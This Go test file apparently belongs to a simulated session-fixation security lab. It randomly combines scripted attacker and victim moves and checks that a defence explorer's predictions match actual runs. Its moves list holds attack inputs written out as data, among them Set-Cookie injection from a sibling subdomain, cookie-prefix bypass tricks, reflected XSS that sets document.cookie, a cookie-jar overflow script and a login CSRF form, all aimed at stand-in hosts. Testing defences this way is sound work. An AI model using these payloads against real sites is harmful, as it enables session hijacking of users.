package explore_test

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"fixlab/lab"
	"fixlab/lab/defence"
	"fixlab/lab/explore"
	"fixlab/lab/script"
	"fixlab/lab/server"
)

// moves are what a random scenario is made of: honest use, planting by every
// means, and what could make a switch matter that a run seems not to look at.
var moves = strings.Split(strings.TrimSpace(`
mallory get /
mallory copy loot
mallory copy loot
mallory post /login user=mallory password=hunter2
mallory post /basket item=ring
mallory paste $cookie=$loot
mallory paste $cookie=$loot; Domain=shop.example
mallory paste __Host-sid=$loot
mallory get /profile
mallory get /profile
mallory join alice
mallory forget
mallory post /logout
mallory serve https://blog.shop.example/ Set-Cookie: $cookie=$loot; Domain=shop.example; Path=/login; Secure
mallory serve https://blog.shop.example/ Set-Cookie: $cookie=$loot; Domain=shop.example; Path=/
mallory serve https://blog.shop.example/ Set-Cookie: =$cookie=$loot; Domain=shop.example; Path=/; Secure
mallory serve https://blog.shop.example/ Set-Cookie: $nbsp$cookie=$loot; Domain=shop.example; Path=/; Secure
mallory serve https://blog.shop.example/ Set-Cookie: sid=$loot; Domain=shop.example; Path=/; Secure
mallory serve https://evil.test/ <a href="https://shop.example/prefs?name=$$cookie&value=$$loot%3B%20Path%3D/">Prize</a>
mallory serve https://evil.test/ <a href="https://shop.example/prefs?name=$cookie&value=$loot">Prize</a>
mallory serve https://evil.test/ <a href="https://shop.example/prefs?name=$$cookie&value=$$loot%3B%20Path%3D/%3B%20Secure%3B%20HttpOnly">Prize</a>
mallory serve https://evil.test/ <a href="https://shop.example/search?q=%3Cscript%3Edocument.cookie%3D%22$$cookie%3D$$loot%3B%20Path%3D/%22%3C/script%3E">Prize</a>
mallory serve https://evil.test/ <a href="https://shop.example/?sid=$$loot">Prize</a>
mallory serve https://evil.test/fill.js repeat 190 document.cookie="f%d=; Path=/; Secure";
mallory serve https://evil.test/fill.js document.cookie="$cookie=$loot; Path=/";
mallory serve https://evil.test/ <a href="https://shop.example/search?q=%3Cscript%20src%3Dhttps://evil.test/fill.js%3E%3C/script%3E">Prize</a>
mallory serve http://news.example/ <img src="http://shop.example/x">
mallory serve http://shop.example/x Set-Cookie: $cookie=$loot; Path=/
mallory serve https://evil.test/ <form method="post" action="https://shop.example/login"><input name="user" value="mallory"><input name="password" value="hunter2"></form>
mallory@alice get /
mallory@alice paste $cookie=$loot
mallory@alice copy loot
alice get /
alice get /
alice get https://blog.shop.example/
alice get https://blog.shop.example/
alice get https://evil.test/
alice click Prize
alice submit
alice get http://news.example/
alice post /login user=alice password=correct-horse
alice post /login user=alice password=correct-horse
alice post /sso user=alice
alice post /signup user=carol password=x
alice post /basket item=cup
alice get /transfer
alice read mine token
alice script $cookie=$mine; Path=/
alice get /profile
alice post /logout
alice wait 61s
server deploy
server cache
`), "\n")

// TestRandomScenarios: whatever is played, each leaf ends as Run does, under
// its own set and under one drawn from those that it stands for.
func TestRandomScenarios(t *testing.T) {
	count, most := 250, 50
	if testing.Short() {
		count, most = 20, 20
	}
	random := rand.New(rand.NewPCG(5, 6))
	ids := server.IDs()
	played, leaves := 0, 0
	for n := range count {
		var text strings.Builder
		fmt.Fprintf(&text, "title: T\nprofile: %s\nbrowser: %s\n\nmallory let loot=chosen\n", ids[n%len(ids)], script.Browsers[random.IntN(len(script.Browsers))])
		for range 6 + random.IntN(10) {
			text.WriteString(moves[random.IntN(len(moves))] + "\n")
		}
		s, err := script.Parse("random", text.String())
		if err != nil {
			t.Fatalf("%v\n%s", err, text.String())
		}
		var over defence.Set
		for _, d := range defence.All {
			if random.IntN(2) == 0 {
				over |= d.Set
			}
		}
		over |= defence.HostPrefix | defence.BindAddress
		p, err := explore.NewPlayer(s)
		if err != nil {
			t.Fatal(err)
		}
		if tr, err := lab.Run(s, 0); err != nil || tr.Cut != "" {
			continue // a click where no page is, or the like
		}
		played++
		found := 0
		err = p.Explore(0, over, func(l explore.Leaf) bool {
			leaves++
			found++
			drawn := l.On | defence.Set(random.Uint64())&over&^l.Mask
			for _, d := range []defence.Set{l.On, drawn} {
				if !d.Valid() {
					continue
				}
				tr, err := lab.Run(s, d)
				if err != nil {
					t.Fatalf("%s: %v\n%s", d, err, text.String())
				}
				if v := tr.Verdict; v.Outcome != l.Outcome || !slices.Equal(v.Also, l.Also) || v.Gate != l.Gate || v.Frame != l.Frame || v.Key != l.Key {
					t.Errorf("%s: run %s %s %s %d, leaf %s of %s: %s %s %s %d\n%s", d, v.Outcome, v.Also, v.Gate, v.Frame,
						l.On, l.Mask, l.Outcome, l.Also, l.Gate, l.Frame, text.String())
					return false
				}
			}
			return found < most
		})
		if err != nil {
			t.Errorf("%v\n%s", err, text.String())
		}
	}
	t.Logf("%d scenarios, %d leaves", played, leaves)
	if played < count/3 {
		t.Errorf("only %d of %d scenarios could be played", played, count)
	}
}
